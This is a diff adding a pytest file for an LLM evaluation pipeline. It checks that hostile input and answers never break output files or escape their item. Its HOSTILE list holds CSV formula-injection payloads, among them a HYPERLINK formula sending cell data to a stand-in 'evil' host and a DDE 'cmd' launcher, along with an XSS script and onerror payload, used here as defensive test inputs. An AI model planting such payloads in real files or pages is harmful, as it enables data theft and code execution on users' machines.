@@ -1,0 +1,164 @@
+"""Hostile input, round 3 (issue 31): what a run writes. Odd text never breaks a file,
+an item's failure stays in that item, and no write leaves the output folder or lands on
+the run's own input."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import xml.etree.ElementTree as ET
+from pathlib import Path
+
+import pytest
+
+from fakellm import Reply
+from helpers import run, write_json
+
+REPO = Path(__file__).resolve().parent.parent
+VERDICT_SCHEMA = {"type": "object", "required": ["verdict", "reason"],
+                  "properties": {"verdict": {"type": "string"}, "reason": {"type": "string"}}}
+JUDGE = """
+    version: 1
+    name: hj
+    env: [FAKE_URL]
+    models: {m: {model: openai/m1, api_base: "{{ env.FAKE_URL }}", backoff: 0.01, retries: 0}}
+    steps:
+      - id: ask
+        uses: llm
+        with: {model: m, prompt: ask.j2, output_schema: verdict.schema.json}
+    output:
+      claim: "{{ item.claim }}"
+      verdict: "{{ steps.ask.output.verdict }}"
+      reason: "{{ steps.ask.output.reason }}"
+      verified: "{{ steps.ask.output.verdict == 'VALID' }}"
+    summary:
+      count_by: verdict
+      rates: {verification_rate: "{{ result.verified }}"}
+    """
+# Every kind of text a hostile input or answer carries: lone surrogates (raw, and escaped
+# in the answer's JSON), U+FFFE/U+FFFF, control characters, formula prefixes, HTML.
+HOSTILE = ["x \ud800 lone", "=HYPERLINK(\"http://evil/?x=\"&B2,\"Click\")", "+cmd|' /C calc'!A0", "-2+3",
+           "@SUM(A1)", "\tTAB", "\rCR", "bell \x01 vt \x0b ff \x0c end", "non \ufffe \uffff chars",
+           "<script>alert(1)</script><img src=x onerror=alert(2)>"]
+
+
+@pytest.fixture
+def judge(project, fake_llm, monkeypatch):
+    monkeypatch.setenv("FAKE_URL", fake_llm.url)
+    project.schema("verdict.schema.json", VERDICT_SCHEMA)
+    project.prompt("ask.j2", "Judge: {{ item.claim }}\n")
+    return project.pipeline(JUDGE)
+
+
+def valid_outputs(out: Path) -> list[dict]:
+    """Every file of a run folder is valid: UTF-8 throughout, JSON lines, XML, CSV."""
+    for path in out.rglob("*"):
+        if path.is_file():
+            path.read_bytes().decode("utf-8")          # strict: no surrogate, no stray byte
+    results = [json.loads(line) for line in (out / "results.jsonl").read_text(encoding="utf-8").splitlines()]
+    json.loads((out / "summary.json").read_text(encoding="utf-8"))
+    if (out / "junit.xml").exists():
+        ET.parse(out / "junit.xml")
+    if (out / "results.csv").exists():
+        rows = list(csv.reader(io.StringIO((out / "results.csv").read_text(encoding="utf-8"), newline="")))
+        assert len(rows) == len(results) + 1
+        for row in rows:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    return results
+
+
+# ---- H1: one safe encoding path for everything written ------------------------------------
+
+def test_lone_surrogates_in_the_input_and_the_answer_never_break_a_file(project, judge, fake_llm, cli):
+    fake_llm.script(Reply('{"verdict": "VALID", "reason": "bad \\ud83d escaped"}'), contains="escaped")
+    fake_llm.script(Reply('{"verdict": "VALID", "reason": "bad \ud83d raw"}'))
+    source = write_json(project.root / "in.json", [{"claim": "x \ud800"}, {"claim": "escaped"}, {"claim": "ok"}])
+    result = cli("run", str(judge), "--input", str(source), "--out", "out", "--format", "csv", "--format", "junit")
+    assert result.exit_code == 0, result.output
+    first, second, third = valid_outputs(project.root / "out")
+    assert first["claim"] == "x \ufffd" and "error" not in first
+    assert second["reason"] == "bad \ufffd escaped" and third["reason"] == "bad \ufffd raw"
+    assert project.summary()["total"] == 3 and project.summary()["errors"] == 0
+    logs = sorted((project.root / "out" / "llm_logs").iterdir())
+    assert len(logs) == 3 and "x \ufffd" in logs[0].read_text(encoding="utf-8")
+    kept = list((project.root / "cache" / "call_logs").iterdir())
+    assert len(kept) == 3
+    fake_llm.reset()
+    again = cli("run", str(judge), "--input", str(source), "--out", "again")
+    assert again.exit_code == 0, again.output
+    assert fake_llm.requests == []                                   # all three answers came from the cache
+    assert [r["reason"] for r in valid_outputs(project.root / "again")][1:] == ["bad \ufffd escaped", "bad \ufffd raw"]
+
+
+def test_a_cached_bad_answer_never_crashes_a_rerun(project, judge, fake_llm, cli):
+    import diskcache
+    fake_llm.script(Reply('{"verdict": "VALID", "reason": "fine"}'))
+    source = write_json(project.root / "in.json", [{"claim": "a"}, {"claim": "b"}, {"claim": "c"}])
+    assert cli("run", str(judge), "--input", str(source), "--out", "out").exit_code == 0
+    cache = diskcache.Cache(str(project.root / "cache" / "responses"))
+    keys = sorted(cache.iterkeys())
+    assert len(keys) == 3
+    # As a cache written by another tool or version: escaped lone surrogates, not JSON, not an answer.
+    cache.set(keys[0], json.dumps({"content": json.dumps({"verdict": "VALID", "reason": "cached \ud83d"}),
+                                   "finish_reason": "stop", "usage": {"prompt_tokens": "12.5"}}))
+    cache.set(keys[1], "{not json")
+    cache.set(keys[2], json.dumps([1, 2]))
+    cache.close()
+    fake_llm.reset()
+    fake_llm.script(Reply('{"verdict": "VALID", "reason": "asked again"}'))
+    again = cli("run", str(judge), "--input", str(source), "--out", "again")
+    assert again.exit_code == 0, again.output
+    reasons = sorted(r["reason"] for r in valid_outputs(project.root / "again"))
+    assert reasons == ["asked again", "asked again", "cached \ufffd"]
+    assert len(fake_llm.requests) == 2                               # only the unreadable entries
+
+
+@pytest.mark.parametrize("usage", ["12.5", [1], 1e400, {"x": 1}])
+def test_odd_usage_counts_are_unknown_usage_not_an_error(project, judge, fake_llm, usage):
+    body = json.dumps({"id": "c", "object": "chat.completion", "model": "m1",
+                       "choices": [{"index": 0, "finish_reason": "stop", "message": {
+                           "role": "assistant", "content": '{"verdict": "VALID", "reason": "ok"}'}}],
+                       "usage": {"prompt_tokens": usage, "completion_tokens": 7, "total_tokens": usage}})
+    fake_llm.script(Reply(raw_body=body.replace('Infinity', '1e400')))
+    [result] = run(judge, write_json(project.root / "in.json", [{"claim": "a"}])).results
+    assert result["verdict"] == "VALID" and "error" not in result
+    usage_seen = json.loads((project.root / "out" / "summary.json").read_text())["models"]["m"]
+    assert usage_seen["calls"] == 1 and usage_seen["failures"] == 0
+
+
+# ---- H3: item-level failures stay in that item ------------------------------------------------
+
+def test_a_record_with_odd_warnings_or_an_error_field_is_an_ordinary_item(project, fake_llm):
+    from test_evidence_judge import batch, cls, judgment
+    fake_llm.script(Reply(judgment(0.9)))
+    base = fake_llm.url.rsplit("/v1", 1)[0]
+    source = write_json(project.root / "in.json", [batch([cls("A", warnings=5), cls("B", error="from the input"),
+                                                          cls("C")])])
+    outcome = run(REPO / "pipelines" / "evidence_judge.yaml", source, out=project.root / "out",
+                  overrides=[f"models.judge.api_base={base}", "models.judge.backoff=0.01", "models.judge.retries=0"])
+    a, b, c = outcome.results
+    assert a["input_warnings"] == 5 and "error" not in a and "warnings" not in a
+    assert b["input_error"] == "from the input" and "error" not in b
+    assert outcome.summary["total"] == 3 and outcome.summary["errors"] == 0
+    assert (project.root / "out" / "report.md").exists()
+
+
+@pytest.mark.parametrize("records", [[{"id": "a-1"}, {"id": 7}], [{}, {"id": 7}], [{"id": None}, {"id": 7}]])
+def test_an_output_index_that_is_not_an_item_number_fails_only_its_item(project, cli, records):
+    path = project.pipeline("""
+        version: 1
+        name: t
+        steps: [{id: echo, uses: compute, with: {n: 1}}]
+        output:
+          index: "{{ item.id | default(none) }}"
+        summary: {count_by: index}
+        """)
+    result = cli("run", str(path), "--input", str(write_json(project.root / "in.json", records)), "--out", "out")
+    assert result.exit_code == 0, result.output
+    first, second = valid_outputs(project.root / "out")
+    assert first["index"] == 1 and "is not an item number" in first["error"]
+    assert second == {"index": 7}
+    assert project.summary()["errors"] == 1
+    assert "is not an item number" in (project.root / "out" / "report.md").read_text()
